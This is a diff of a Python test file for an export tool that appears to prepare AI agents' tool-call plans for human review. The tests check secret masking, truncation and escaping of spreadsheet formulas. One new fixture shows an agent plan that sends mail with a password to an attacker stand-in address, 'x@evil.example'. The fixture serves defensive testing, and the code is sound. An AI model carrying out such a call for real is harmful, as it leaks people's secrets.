@@ -15,6 +15,7 @@ from typer.testing import CliRunner
 
 from gatling_core.errors import InvalidInput, NotFound, QueueUnavailable
 from gatling_core.lease import Lease
+from gatling_core.masking import Masker
 from gatling_core.queue import CaseQueue, QueueEntry
 from gatling_core.schemas import Answer, Case, Verdict
 from server import cli
@@ -39,7 +40,7 @@ def hostile(request: str) -> QueueEntry:
 def test_what_is_exported_and_judged_comes_back(queue: CaseQueue, tmp_path: Path, suffix: str) -> None:
     file = tmp_path / f"cases{suffix}"
     with file.open("w", newline="") as target:
-        assert export(queue, "unjudged", target, as_csv=suffix == ".csv") == 120
+        assert export(queue, "unjudged", target, Masker([r"EMP-\d+"]), as_csv=suffix == ".csv") == 120
     if suffix == ".csv":
         rows = list(csv.DictReader(io.StringIO(file.read_text())))
     else:
@@ -67,7 +68,7 @@ def test_what_is_exported_and_judged_comes_back(queue: CaseQueue, tmp_path: Path
     assert (verdict.label, verdict.reviewer, verdict.reason) == ("adversarial", "ada", 'sends, it "out"')
     assert [(broken.node_id, broken.argument, broken.term) for broken in verdict.violations] == [("b", "number", "flow")]
     target = io.StringIO(newline="")
-    export(queue, "adversarial", target, as_csv=suffix == ".csv")
+    export(queue, "adversarial", target, Masker([r"EMP-\d+"]), as_csv=suffix == ".csv")
     file.write_text(target.getvalue())
     assert judge_all(queue, file) == (1, [])
     again = queue.get("decision-119").verdict
@@ -113,7 +114,7 @@ def test_one_of_several_violations_is_not_exported_as_the_only_one(queue: CaseQu
     broken = [{"node_id": node_id, "term": "scope", "energy": 1} for node_id in ("a", "b")]
     queue.set_verdict("decision-3", Verdict.model_validate({"label": "boundary", "reviewer": "ada", "violations": broken}))
     target = io.StringIO()
-    export(queue, "boundary", target, as_csv=False)
+    export(queue, "boundary", target, Masker([r"EMP-\d+"]), as_csv=False)
     assert json.loads(target.getvalue())["call"] == ""
 
 
@@ -132,12 +133,33 @@ def test_a_queue_that_is_away_ends_the_import(queue: CaseQueue, tmp_path: Path, 
 def test_no_cell_becomes_a_formula(queue: CaseQueue, request_: str) -> None:
     queue.add(hostile(request_))
     target = io.StringIO(newline="")
-    export(queue, "any", target, as_csv=True)
+    export(queue, "any", target, Masker([r"EMP-\d+"]), as_csv=True)
     target.seek(0)
     row = next(csv.DictReader(target))
     assert row["decision_id"] == "hostile"
     assert row["request"] == f"'{request_}"
     assert row["calls"] == "'@t()#0"
+
+
+@pytest.mark.parametrize("as_csv", [True, False])
+def test_a_row_holds_what_a_reviewer_judges_by(queue: CaseQueue, as_csv: bool) -> None:
+    arguments = {"to": "x@evil.example", "rows": 5, "password": "hunter2", "by": "EMP-77", "body": "b" * 10_000}
+    nodes = [{"node_id": "a", "tool_name": "mail.read", "output": "a private letter"}]
+    nodes += [{"node_id": f"n{n}", "tool_name": "mail.send", "arguments": arguments} for n in range(100)]  # pyright: ignore[reportArgumentType]
+    case = {"policy": {"mail": "Ask before you send.", "note": "p" * 50_000}, "execution_plan": {"nodes": nodes}}
+    answer = {**make_entry(0).answer.model_dump(), "decision_id": "long"}
+    queue.add(QueueEntry.of(Case.model_validate(case), Answer.model_validate(answer), tenant="", keep_outputs=False))
+    target = io.StringIO(newline="")
+    export(queue, "any", target, Masker([r"EMP-\d+"]), as_csv=as_csv)
+    target.seek(0)
+    row = next(csv.DictReader(target)) if as_csv else json.loads(target.readline())
+    assert row["policy"].startswith('{"mail": "Ask before you send."')
+    assert "mail.send(to=x@evil.example, rows=5, password=[masked], by=[masked], body=bbb" in row["calls"]
+    assert row["calls"].startswith("mail.read()#a\nmail.send(")
+    assert "hunter2" not in row["calls"]
+    assert "private" not in str(row)
+    assert row["policy"].endswith(" more characters)")
+    assert max(map(len, map(str, row.values()))) < 32_767
 
 
 def test_the_commands(queue: CaseQueue, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -197,7 +219,7 @@ def test_a_cell_that_could_be_a_formula_comes_back_as_it_was(queue: CaseQueue, t
     queue.set_verdict("hostile", said)
     file = tmp_path / "verdicts.csv"
     with file.open("w", newline="") as target:
-        export(queue, "boundary", target, as_csv=True)
+        export(queue, "boundary", target, Masker([r"EMP-\d+"]), as_csv=True)
     assert judge_all(queue, file) == (1, [])
     again = queue.get("hostile").verdict
     assert again
